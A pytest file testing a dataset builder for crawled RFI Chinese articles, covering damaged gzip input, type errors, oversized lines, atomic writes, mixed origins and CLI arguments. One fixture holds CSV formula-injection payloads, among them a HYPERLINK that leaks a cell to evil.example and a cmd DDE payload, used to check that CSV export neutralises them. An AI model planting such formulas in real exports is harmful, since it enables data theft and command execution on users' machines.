"""rfi-dataset against damaged, hostile and mistaken input: gzip damage, type errors, huge
lines, formulas, outputs replaced only whole, mixed origins, bad arguments."""

from __future__ import annotations

import csv
import gzip
import io
import os
import signal
import subprocess
import sys
import tracemalloc
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from rfi_crawler.dataset.build import CSV_COLUMNS, origin_of
from rfi_crawler.dataset.cli import main
from rfi_crawler.export.run_file import (
    DamagedFileError,
    Line,
    RunFileWriter,
    iter_lines,
    iter_records,
)
from tests.test_dataset import lines, record, write_jsonl

ROOT = Path(__file__).resolve().parents[1]


def run(*argv: object) -> int:
    return main([str(a) for a in argv])


def gzip_records(path: Path, records: list[dict]) -> Path:
    writer = RunFileWriter(path, compress=True)
    for item in records:
        writer.write(item)
    writer.close()
    return path


# -- gzip: every member, damage reported ---------------------------------------------------


def test_every_member_of_concatenated_gzip_files_is_read(tmp_path):
    first = gzip_records(tmp_path / "a.jsonl.gz", [record(1), record(2)])
    second = gzip_records(tmp_path / "b.jsonl.gz", [record(3)])
    both = tmp_path / "both.jsonl.gz"
    both.write_bytes(first.read_bytes() + second.read_bytes())
    assert [r["id"] for _, r in iter_records(both)] == ["WBMZ1", "WBMZ2", "WBMZ3"]
    assert run("build", both, "-o", tmp_path / "out.jsonl") == 0
    assert len(lines(tmp_path / "out.jsonl")) == 3


def damaged(tmp_path: Path, where: str = "middle", count: int = 400) -> tuple[Path, int]:
    """A crawler .jsonl.gz with one byte flipped: in its header, its deflate data or its
    CRC trailer."""
    path = gzip_records(tmp_path / "run.jsonl.gz", [record(n) for n in range(count)])
    data = bytearray(path.read_bytes())
    at = {"header": 2, "middle": len(data) // 2, "trailer": len(data) - 6}[where]
    data[at] ^= 0xFF
    path.write_bytes(bytes(data))
    return path, at


@pytest.mark.parametrize("where", ["header", "trailer"])
def test_a_flipped_byte_fails_the_build_naming_file_and_offset(tmp_path, capsys, where):
    path, at = damaged(tmp_path, where)
    assert run("build", path, "-o", tmp_path / "out.jsonl") == 1
    err = capsys.readouterr().err
    found = int(err.split("damaged gzip data found at byte ")[1].split(":")[0])
    assert at <= found <= at + 4  # zlib reads its header and trailer fields whole
    assert "Traceback" not in err and len(err.strip().splitlines()) == 1
    assert not (tmp_path / "out.jsonl").exists()


def test_a_flipped_byte_in_the_data_fails_the_build_naming_the_file(tmp_path, capsys):
    path, _ = damaged(tmp_path, "middle")
    assert run("build", path, "-o", tmp_path / "out.jsonl") == 1
    err = capsys.readouterr().err
    # Depending on the bit, deflate fails at once or yields a garbled line first.
    assert "run.jsonl.gz: damaged gzip data found at byte" in err or "run.jsonl.gz:" in err
    assert "Traceback" not in err and len(err.strip().splitlines()) == 1


@pytest.mark.parametrize(("where", "kept"), [("trailer", 400), ("middle", None), ("header", 0)])
def test_damage_with_skip_invalid_keeps_what_precedes_it_and_counts(tmp_path, capsys, where, kept):
    path, _ = damaged(tmp_path, where)
    assert run("build", path, "--skip-invalid", "-o", tmp_path / "out.jsonl") == 0
    read = lines(tmp_path / "out.jsonl")
    assert len(read) == kept if kept is not None else 0 < len(read) < 400
    assert all(r == record(int(r["id"][4:])) for r in read)  # whole records, nothing garbled
    assert "1 damaged file" in capsys.readouterr().err
    card = (tmp_path / "out.jsonl.DATASET.md").read_text(encoding="utf-8")
    assert "1 damaged\n  gzip files" in card


def test_the_crawl_reader_reports_damage_too(tmp_path):
    path, _ = damaged(tmp_path, "trailer")
    with pytest.raises(DamagedFileError, match=r"run\.jsonl\.gz: damaged gzip data found at"):
        list(iter_records(path))


def test_data_after_a_gzip_member_that_is_not_gzip_is_damage(tmp_path):
    path = gzip_records(tmp_path / "run.jsonl.gz", [record(1)])
    path.write_bytes(path.read_bytes() + b"garbage")
    with pytest.raises(DamagedFileError, match="not gzip at byte"):
        list(iter_records(path))


# -- type errors ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"crawl": "homepage"}, "crawl"),
        ({"tags": 5}, "tags"),
        ({"section": ["a"]}, "section"),
        ({"published_at": "yesterday"}, "published_at"),
        ({"image": {"url": 1, "caption": None, "credit": None}}, "image.url"),
        ({"version": "2"}, "version"),
        ({"url": None}, "url"),
    ],
)
@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_a_type_error_is_one_line_with_file_and_line_or_a_counted_skip(
    tmp_path, capsys, change, field, fmt
):
    bad = {**record(2), **change}
    source = write_jsonl(tmp_path / "run.jsonl", [record(1), bad, record(3)])
    out = tmp_path / f"out.{fmt}"
    assert run("build", source, "--format", fmt, "-o", out) == 1
    err = capsys.readouterr().err
    assert f"run.jsonl:2: invalid record: {field}" in err
    assert "Traceback" not in err and len(err.strip().splitlines()) == 1
    assert run("build", source, "--format", fmt, "--skip-invalid", "-o", out) == 0
    assert "1 invalid line" in capsys.readouterr().err


# -- one huge line ------------------------------------------------------------------------


def test_a_line_over_the_limit_is_skipped_with_file_and_line(tmp_path, capsys, caplog):
    huge = {**record(2), "body": "长" * 400_000}  # 1.2 MB of UTF-8
    source = write_jsonl(tmp_path / "run.jsonl", [record(1), huge, record(3)])
    packed = gzip_records(tmp_path / "run2.jsonl.gz", [record(4), huge, record(5)])
    out = tmp_path / "out.jsonl"
    assert run("build", source, packed, "--max-line-bytes", 1_000_000, "-o", out) == 0
    err = capsys.readouterr().err
    assert "run.jsonl:2: line longer than 1000000 bytes skipped" in caplog.text
    assert "run2.jsonl.gz:2: line longer than 1000000 bytes skipped" in caplog.text
    assert "2 over-long lines" in err
    assert [r["id"] for r in lines(out)] == ["WBMZ1", "WBMZ3", "WBMZ4", "WBMZ5"]
    assert run("build", source, "-o", out) == 0  # under the default 16 MiB it is a record
    assert len(lines(out)) == 3


@pytest.mark.parametrize("suffix", [".jsonl", ".jsonl.gz"])
def test_reading_a_huge_line_does_not_hold_it(tmp_path, suffix):
    data = b'{"url": "x", "body": "' + b"a" * (40 << 20) + b'"}\n{"url": "y"}\n'
    path = tmp_path / f"run{suffix}"
    path.write_bytes(gzip.compress(data, 1) if suffix.endswith(".gz") else data)
    del data
    tracemalloc.start()
    try:
        got = [(n, kind) for n, _, kind in iter_lines(path, max_line=1 << 20)]
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert got == [(1, Line.TOO_LONG), (2, Line.COMPLETE)]
    assert peak < 8 << 20, f"peak {peak} bytes while reading a 40 MiB line"


def test_an_unterminated_huge_last_line_is_too_long_not_truncated(tmp_path):
    path = tmp_path / "run.jsonl"
    path.write_bytes(b'{"url": "y"}\n' + b"a" * 5000)
    assert [kind for _, _, kind in iter_lines(path, max_line=1000)] == [
        Line.COMPLETE,
        Line.TOO_LONG,
    ]


# -- CSV formulas -------------------------------------------------------------------------

FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "lead": "+1+cmd|' /C calc'!A0",
    "kicker": "-2+3",
    "body": "@SUM(1,1)",
    "section": "\t=1",
    "programme": "\r=1",
    "authors": ["=1+1"],
    "tags": ["@x"],
}


def test_csv_neutralises_formulas_and_jsonl_and_parquet_keep_them_raw(tmp_path):
    source = write_jsonl(tmp_path / "run.jsonl", [{**record(1), **FORMULAS}])
    assert run("build", source, "--format", "csv", "-o", tmp_path / "out.csv") == 0
    (row,) = csv.DictReader(io.StringIO((tmp_path / "out.csv").read_bytes().decode("utf-8")))
    for name, value in FORMULAS.items():
        text = value[0] if isinstance(value, list) else value
        assert row[name] == "'" + text, name
    assert row["url"].startswith("https://")  # untouched
    assert run("build", source, "-o", tmp_path / "out.jsonl") == 0
    (raw,) = lines(tmp_path / "out.jsonl")
    assert {name: raw[name] for name in FORMULAS} == FORMULAS
    assert run("build", source, "--format", "parquet", "-o", tmp_path / "out.parquet") == 0
    (typed,) = pq.read_table(tmp_path / "out.parquet").to_pylist()
    assert {name: typed[name] for name in FORMULAS} == FORMULAS


# -- outputs replaced only whole ------------------------------------------------------------


@pytest.fixture
def source(tmp_path) -> Path:
    folder = tmp_path / "runs"
    folder.mkdir()
    write_jsonl(folder / "rfi_cn-1.jsonl", [record(n) for n in range(1, 6)])
    return folder


def test_an_output_that_is_an_input_is_refused(source, capsys):
    run_file = source / "rfi_cn-1.jsonl"
    before = run_file.read_bytes()
    assert run("build", run_file, "-o", run_file) == 1
    assert "the output is one of the inputs" in capsys.readouterr().err
    assert run("build", source, "-o", source / "rfi_cn-1.jsonl") == 1  # inside a folder given
    assert run_file.read_bytes() == before


def test_a_failing_build_leaves_the_previous_output_and_its_card(source, tmp_path):
    out = tmp_path / "out.jsonl"
    card = tmp_path / "out.jsonl.DATASET.md"
    assert run("build", source, "-o", out) == 0
    good, good_card = out.read_bytes(), card.read_bytes()
    (source / "rfi_cn-2.jsonl").write_text('{"url": "https://www.rfi.fr/cn/a"}\nnot json\n')
    assert run("build", source, "-o", out) == 1
    assert out.read_bytes() == good and card.read_bytes() == good_card
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "out.jsonl",
        "out.jsonl.DATASET.md",
        "runs",
    ]


def test_standard_output_gets_no_card(source, tmp_path, monkeypatch, capsysbinary):
    monkeypatch.chdir(tmp_path)
    assert run("build", source) == 0
    assert len(capsysbinary.readouterr().out.splitlines()) == 5
    assert not list(tmp_path.glob("*DATASET.md"))


def test_output_into_a_missing_folder_creates_it(source, tmp_path):
    out = tmp_path / "new" / "deeper" / "out.csv"
    assert run("build", source, "--format", "csv", "-o", out) == 0
    assert out.exists() and (out.parent / "out.csv.DATASET.md").exists()


def test_builds_into_one_folder_keep_their_own_cards(source, tmp_path):
    assert run("build", source, "-o", tmp_path / "rfi.jsonl") == 0
    assert (
        run("build", source, "--format", "csv", "--since", "2030-01-01", "-o", tmp_path / "rfi.csv")
        == 0
    )
    jsonl_card = (tmp_path / "rfi.jsonl.DATASET.md").read_text(encoding="utf-8")
    csv_card = (tmp_path / "rfi.csv.DATASET.md").read_text(encoding="utf-8")
    assert "# RFI Chinese articles: rfi.jsonl" in jsonl_card and "**Records:** 5" in jsonl_card
    assert "# RFI Chinese articles: rfi.csv" in csv_card and "**Records:** 0" in csv_card


@pytest.mark.parametrize("fmt", ["jsonl", "parquet"])
@pytest.mark.parametrize("previous", [False, True])
def test_kill_9_mid_build_leaves_no_partial_output(tmp_path, fmt, previous):
    folder = tmp_path / "runs"
    folder.mkdir()
    write_jsonl(folder / "rfi_cn-1.jsonl", [record(n) for n in range(12_000)])
    out = tmp_path / f"out.{fmt}"
    if previous:
        assert run("build", folder, "--format", fmt, "-o", out) == 0
    old = out.read_bytes() if previous else None
    command = [sys.executable, "-m", "rfi_crawler.dataset", "build", str(folder), "-o", str(out)]
    # A progress line per record: once this test stops reading them, the pipe fills and the
    # build blocks within a few thousand records, so it is surely killed mid-write.
    child = subprocess.Popen(
        [*command, "--format", fmt, "--progress", "1"], stderr=subprocess.PIPE, text=True, cwd=ROOT
    )
    try:
        assert child.stderr is not None
        for line in child.stderr:
            if "wrote 6000 records" in line:  # past the first Parquet row group
                break
        else:
            pytest.fail("the build ended before writing 6000 records")
        os.kill(child.pid, signal.SIGKILL)
    finally:
        child.wait(timeout=120)
        child.stderr.close()
    assert child.returncode == -signal.SIGKILL
    if previous:
        assert out.read_bytes() == old  # the previous good output, whole
    else:
        assert not out.exists()  # no valid-looking partial output at the target path
    assert (tmp_path / f"out.{fmt}.DATASET.md").exists() == previous
    leftovers = [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")]
    assert leftovers and all(name.startswith(f".out.{fmt}.") for name in leftovers)


# -- origins --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "crawl", "origin"),
    [
        ("https://www.rfi.fr/cn/x/1", {}, "https://www.rfi.fr"),
        ("https://WWW.RFI.FR:443/cn/x/1", {}, "https://www.rfi.fr"),
        ("http://127.0.0.1:8000/cn/x/1", {}, "http://127.0.0.1:8000"),
        ("http://127.0.0.1:80/cn/x/1", {}, "http://127.0.0.1"),
        ("https://www.rfi.fr:8443/cn/x/1", {}, "https://www.rfi.fr:8443"),
        ("https://www.rfi.fr/cn/x/1", {"origin": "http://127.0.0.1:9"}, "http://127.0.0.1:9"),
        ("https://www.rfi.fr/cn/x/1", {"via": "archive"}, "https://www.rfi.fr"),
    ],
)
def test_origin_of(url, crawl, origin):
    assert origin_of({"url": url, "crawl": crawl}) == origin


def test_records_from_different_origins_are_not_merged_unless_allowed(tmp_path, capsys):
    real = write_jsonl(tmp_path / "real.jsonl", [record(1)])
    replica = {**record(2), "url": "http://127.0.0.1:8000/cn/x/20251101-2"}
    demo = write_jsonl(tmp_path / "demo.jsonl", [replica])
    out = tmp_path / "out.jsonl"
    assert run("build", real, demo, "-o", out) == 1
    err = capsys.readouterr().err
    assert "different origins: https://www.rfi.fr" in err and "http://127.0.0.1:8000" in err
    assert "demo.jsonl:1" in err and "--allow-mixed-origins" in err
    assert not out.exists()
    assert run("build", real, demo, "--allow-mixed-origins", "-o", out) == 0
    assert len(lines(out)) == 2
    card = (tmp_path / "out.jsonl.DATASET.md").read_text(encoding="utf-8")
    assert "http://127.0.0.1:8000 (1 records)" in card
    # An archive import counts as www.rfi.fr: it merges with real crawls.
    archived = {**record(3), "crawl": {**record(3)["crawl"], "via": "archive"}}
    archive = write_jsonl(tmp_path / "archive.jsonl", [archived])
    assert run("build", real, archive, "-o", out) == 0


# -- arguments, help, progress ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("argv", "named"),
    [
        (
            ["--since", "2025-13-45"],
            "argument --since: '2025-13-45' is not a date; expected YYYY-MM-DD",
        ),
        (
            ["--until", "20251130"],
            "argument --until: '20251130' is not a date; expected YYYY-MM-DD",
        ),
        (["--max-line-bytes", "0"], "argument --max-line-bytes: '0'"),
        (["--progress", "-5"], "argument --progress: '-5'"),
    ],
)
def test_bad_arguments_are_one_line_exit_2(source, capsys, argv, named):
    with pytest.raises(SystemExit) as exit_:
        run("build", source, *argv)
    assert exit_.value.code == 2
    err = capsys.readouterr().err
    assert named in err and len(err.strip().splitlines()) == 1


@pytest.mark.parametrize(
    "command", [[], ["build"], ["import-archive"], ["export-archive"], ["stats"]]
)
def test_help_has_no_markup_and_dates_have_their_format(capsys, command):
    with pytest.raises(SystemExit):
        run(*command, "--help")
    out = capsys.readouterr().out
    assert "``" not in out and ":func:" not in out
    if command == ["build"]:
        assert "--since YYYY-MM-DD" in out and "--until YYYY-MM-DD" in out


def test_one_file_is_one_file_and_progress_is_reported(tmp_path, capsys):
    source = write_jsonl(tmp_path / "run.jsonl", [record(1), record(2), record(3)])
    assert run("build", source, "--progress", 2, "-o", tmp_path / "out.jsonl") == 0
    err = capsys.readouterr().err
    assert "from 3 records read in 1 file;" in err
    assert "rfi-dataset: read 2 records" in err and "rfi-dataset: wrote 2 records" in err
    assert run("build", source, "--progress", 0, "-o", tmp_path / "out.jsonl") == 0
    assert "rfi-dataset: read" not in capsys.readouterr().err


# -- one field list, one Parquet time unit, no Scrapy ------------------------------------------


def test_csv_columns_and_parquet_types_follow_the_field_list():
    from rfi_crawler import drift, fields
    from rfi_crawler.dataset.parquet import parquet_schema
    from rfi_crawler.dataset.shape import DATASET_FIELDS
    from rfi_crawler.schema import record_schema

    assert set(record_schema()["properties"]) == set(fields.FIELDS)
    assert parquet_schema().names == [*fields.FIELDS, *DATASET_FIELDS]  # then removed_at
    assert drift.COVERED is fields.COVERED
    covered = {column.split("_")[0] for column in CSV_COLUMNS}
    assert {name.split("_")[0] for name in fields.FIELDS} - {"translations"} <= covered
    for sub in record_schema()["properties"]["crawl"]["properties"]:
        assert f"crawl_{sub}" in CSV_COLUMNS


def test_parquet_times_are_what_the_readme_and_card_say(tmp_path):
    source = write_jsonl(tmp_path / "run.jsonl", [{**record(1), "modified_at": None}])
    assert run("build", source, "--format", "parquet", "-o", tmp_path / "out.parquet") == 0
    schema = pq.read_table(tmp_path / "out.parquet").schema
    unit = str(schema.field("published_at").type)
    assert unit == "timestamp[ms, tz=UTC]"
    assert str(schema.field("crawl").type.field("fetched_at").type) == unit
    readme = "".join(
        p.read_text(encoding="utf-8") for p in [ROOT / "README.md", *ROOT.glob("docs/*.md")]
    )
    assert "`timestamp[ms, UTC]`" in readme and "`timestamp[s, UTC]`" not in readme
    card = (tmp_path / "out.parquet.DATASET.md").read_text(encoding="utf-8")
    assert "| `modified_at` | string (time) or null |" in card
    assert "| `published_at` | string (time) |" in card


def test_rfi_dataset_does_not_import_scrapy_or_the_crawl_runtime():
    # import-archive (the extractor) may, until its loader is on itemloaders (issue 9.1).
    code = (
        "import sys, rfi_crawler.dataset.cli;"
        "print(sorted(m for m in ('scrapy', 'twisted', 'rfi_crawler.run', 'rfi_crawler.state')"
        " if m in sys.modules))"
    )
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, check=True
    )
    assert done.stdout.strip() == "[]"


def test_the_crawl_and_rfi_dataset_write_lines_alike(tmp_path):
    """One writer: a run file already in dataset order comes out of build byte for byte."""
    path = tmp_path / "rfi_cn-1.jsonl"
    writer = RunFileWriter(path)
    for n in range(1, 6):
        writer.write(record(n))
    writer.close()
    assert run("build", path, "-o", tmp_path / "out.jsonl") == 0
    assert (tmp_path / "out.jsonl").read_bytes() == path.read_bytes()


def test_export_archive_reports_progress_too(tmp_path, capsys):
    from tests.test_dataset import SEED

    assert run("import-archive", SEED, "-o", tmp_path / "a.jsonl") == 0
    assert run("export-archive", tmp_path / "a.jsonl", "--progress", 10, "-o", tmp_path / "f") == 0
    err = capsys.readouterr().err
    assert "rfi-dataset: wrote 10 archive files" in err and "wrote 41 archive files to" in err


def test_ctrl_c_mid_build_is_one_line_and_leaves_nothing(tmp_path):
    folder = tmp_path / "runs"
    folder.mkdir()
    write_jsonl(folder / "rfi_cn-1.jsonl", [record(n) for n in range(6_000)])
    out = tmp_path / "out.jsonl"
    command = [sys.executable, "-m", "rfi_crawler.dataset", "build", str(folder), "-o", str(out)]
    child = subprocess.Popen(
        [*command, "--progress", "1"],
        stderr=subprocess.PIPE,
        text=True,
        cwd=ROOT,
        # Ctrl-C as in a terminal: a runner that ignores SIGINT (a shell's background job)
        # would hand that on, and Python keeps an ignored SIGINT ignored.
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),
    )
    assert child.stderr is not None
    for line in child.stderr:  # held mid-write by the full pipe, as above
        if "wrote 1000 records" in line:
            break
    child.send_signal(signal.SIGINT)
    _, rest = child.communicate(timeout=120)
    assert child.returncode == 130
    assert rest.strip().splitlines()[-1] == "rfi-dataset: interrupted"
    assert "Traceback" not in rest
    assert sorted(p.name for p in tmp_path.iterdir()) == ["runs"]  # no output, no temp file
